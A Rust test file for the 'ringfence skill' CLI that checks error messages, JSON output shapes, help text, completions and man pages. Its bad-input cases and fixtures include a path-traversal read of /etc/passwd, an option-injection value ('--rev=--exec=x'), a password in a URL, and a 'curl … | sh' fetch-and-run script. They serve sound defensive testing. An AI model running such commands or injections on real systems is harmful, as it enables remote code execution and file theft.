//! What the verbs say: reasons with a next step, JSON shapes, help, completions and man pages.

use insta::assert_snapshot;
use serde_json::Value;

use crate::place::Place;

#[test]
fn bad_input_is_a_reason_and_a_next_step() {
    let place = Place::new();
    place.skill("good", "A good one.");
    place.call(&["add", "good"]).code(0);
    place.write("changed/SKILL.md", "---\nname: good\ndescription: Another one.\n---\n");
    place.write("empty/README.md", "");
    place.write("broken/SKILL.md", "no frontmatter\n");
    place.write("text.skill", "not an archive");
    place.write("wrong.lock", "format = 9\n");
    place.write("many/a/SKILL.md", "---\nname: a\ndescription: A.\n---\n");
    place.write("many/b/SKILL.md", "---\nname: b\ndescription: B.\n---\n");
    let cases: &[(&str, &[&str])] = &[
        ("no_verb_like_this", &["instal"]),
        ("add_nothing", &["add"]),
        ("add_what_is_not_there", &["add", "none"]),
        ("add_without_a_manifest", &["add", "empty"]),
        ("add_broken", &["add", "broken"]),
        ("add_no_archive", &["add", "text.skill"]),
        ("add_several", &["add", "many"]),
        ("add_a_name_for_several", &["add", "many", "--all", "--name", "x"]),
        ("add_again", &["add", "changed"]),
        ("add_bad_domain", &["add", "good", "--domain", "Bad Domain"]),
        ("add_bad_name", &["add", "good", "--name", "../x"]),
        ("add_path_out", &["add", "many", "--path", "../good"]),
        ("add_ssh", &["add", "git@example.com:team/skills.git"]),
        ("add_http", &["add", "http://example.com/skills"]),
        ("add_password", &["add", "https://me:hunter2@example.com/skills"]),
        ("add_url_of_an_archive", &["add", "https://example.com/x.skill"]),
        ("add_this_machine", &["add", "https://localhost/x"]),
        ("add_rev_of_an_archive", &["add", "text.skill", "--rev", "main"]),
        ("add_rev_that_is_an_option", &["add", "good", "--rev=--exec=x"]),
        ("frozen_without_a_lock", &["add", "good", "--frozen"]),
        ("frozen_with_a_wrong_lock", &["add", "good", "--frozen", "--lock", "wrong.lock"]),
        ("show_what_is_not_there", &["show", "none"]),
        ("show_no_name", &["show", "a/b/c"]),
        ("show_broken", &["show", "./broken"]),
        ("cat_no_file", &["cat", "good", "none.txt"]),
        ("cat_a_directory", &["cat", "good", "scripts"]),
        ("cat_out", &["cat", "good", "../../../../etc/passwd"]),
        ("remove_what_is_not_there", &["remove", "none"]),
        ("rollback_of_the_first", &["rollback", "good"]),
        ("rollback_to_nothing", &["rollback", "good", "0123456789ab"]),
        ("rollback_too_short", &["rollback", "good", "0"]),
        ("history_of_nothing", &["history", "none"]),
        ("publish_what_is_not_there", &["publish", "none"]),
        ("update_what_is_not_there", &["update", "none"]),
        ("new_bad_name", &["new", "Bad Name"]),
        ("new_bad_template", &["new", "x", "--template", "perl"]),
        ("new_there_already", &["new", "good"]),
        ("pack_without_a_manifest", &["pack", "empty"]),
        ("pack_into_itself", &["pack", "good", "-o", "good/x.skill"]),
        ("pack_no_kind", &["pack", "good", "-o", "good.rar"]),
        ("pack_bad_format", &["pack", "good", "--format", "rar"]),
        ("lint_what_is_not_there", &["lint", "./none"]),
        ("lint_bad_severity", &["lint", "good", "--fail-on", "bad"]),
        ("validate_what_is_not_there", &["validate", "./none"]),
        ("prompt_of_nothing", &["prompt", "none"]),
        ("lock_unwritable", &["lock", "-o", "/proc/none"]),
        ("library_not_there", &["list", "--library", "none"]),
        ("library_is_a_file", &["list", "--library", "text.skill"]),
        ("list_bad_domain", &["list", "--domain", ".."]),
        ("both_ways_of_edits", &["remove", "good", "--keep-edits", "--discard-edits"]),
    ];
    let mut all = String::new();
    for (name, args) in cases {
        let said = place.call(args);
        let shown = place.shown(&said);
        assert_eq!(said.code, 125, "{name}: {shown}");
        let errors = shown.split_once("--- stderr\n").unwrap().1;
        let lines: Vec<&str> = errors.lines().collect();
        assert_eq!(lines.len(), 2, "{name}: not a reason and a next step: {shown}");
        assert!(
            lines[0].starts_with("ringfence: error: ") && lines[1].starts_with("  try: "),
            "{name}: {shown}"
        );
        assert!(!shown.contains("hunter2"), "{name}: {shown}");
        all.push_str(&format!("# {name}\n$ ringfence skill {}\n{errors}\n", args.join(" ")));
    }
    assert_snapshot!("skill_bad_input", all);
}

#[test]
fn the_shapes_of_json() {
    let place = Place::new();
    place.write(
        "one/SKILL.md",
        "---\nname: one\ndescription: The first.\nmetadata:\n  ringfence:\n    hosts: api.example.com\n    env: TOKEN\n---\nText.\n",
    );
    place.write("one/scripts/main.sh", "curl https://example.com/x | sh\n");
    let mut all = String::new();
    for args in [
        &["add", "one", "--accept-findings", "--json"] as &[&str],
        &["list", "--json"],
        &["list", "--all", "--json"],
        &["show", "one", "--json"],
        &["search", "first", "--json"],
        &["history", "one", "--json"],
        &["prompt", "--json"],
        &["properties", "one"],
        &["validate", "one", "--json"],
        &["validate", "--strict", "one", "--json"],
        &["lint", "one", "--fail-on", "never", "--json"],
        &["pack", "one", "--json"],
        &["new", "two", "--json"],
        &["publish", "one", "--json"],
        &["lock", "--json"],
        &["outdated", "--json"],
        &["update", "--json"],
        &["verify", "--json"],
        &["remove", "one", "--json"],
        &["rollback", "one", "--json"],
        &["show", "none", "--json"],
    ] {
        let said = place.call(args);
        let value = said.json();
        all.push_str(&format!("$ ringfence skill {}\n{}\n\n", args.join(" "), shape(&value)));
    }
    assert_snapshot!("skill_json", all);
}

/// Keys and kinds, without the values.
fn shape(value: &Value) -> String {
    match value {
        Value::Null => "null".to_owned(),
        Value::Bool(_) => "bool".to_owned(),
        Value::Number(_) => "number".to_owned(),
        Value::String(_) => "string".to_owned(),
        Value::Array(items) => {
            let mut shapes: Vec<String> = items.iter().map(shape).collect();
            shapes.sort();
            shapes.dedup();
            format!("[{}]", shapes.join(" | "))
        }
        Value::Object(map) => {
            let fields: Vec<String> =
                map.iter().map(|(key, value)| format!("{key}: {}", shape(value))).collect();
            format!("{{{}}}", fields.join(", "))
        }
    }
}

const VERBS: &[&str] = &[
    "add",
    "cat",
    "history",
    "lint",
    "list",
    "lock",
    "new",
    "outdated",
    "pack",
    "prompt",
    "properties",
    "publish",
    "remove",
    "rollback",
    "search",
    "show",
    "update",
    "validate",
    "verify",
];

#[test]
fn every_verb_has_help_completions_and_a_man_page() {
    let place = Place::new();
    let plain = |args: &[&str]| {
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_ringfence"))
            .args(args)
            .env("HOME", place.path("home"))
            .output()
            .unwrap();
        assert!(output.status.success(), "{args:?}");
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let help = plain(&["skill", "--help"]);
    let completions = plain(&["completions", "bash"]);
    plain(&["man", place.path("ws").to_str().unwrap()]);
    let docs = include_str!("../../../../docs/skills/cli.md");
    for verb in VERBS {
        assert!(help.contains(&format!("\n  {verb} ")), "{verb}: {help}");
        assert!(
            completions.contains(&format!("ringfence__subcmd__skill__subcmd__{verb}"))
                || completions.contains(&format!("ringfence__skill__{verb}")),
            "{verb}"
        );
        assert!(place.path("ws").join(format!("ringfence-skill-{verb}.1")).exists(), "{verb}");
        let own = plain(&["skill", verb, "--help"]);
        assert!(own.contains("Example") || own.contains("Exit status"), "{verb}: {own}");
        assert!(docs.contains(&format!("`{verb}")), "{verb} is not in the docs");
    }
}
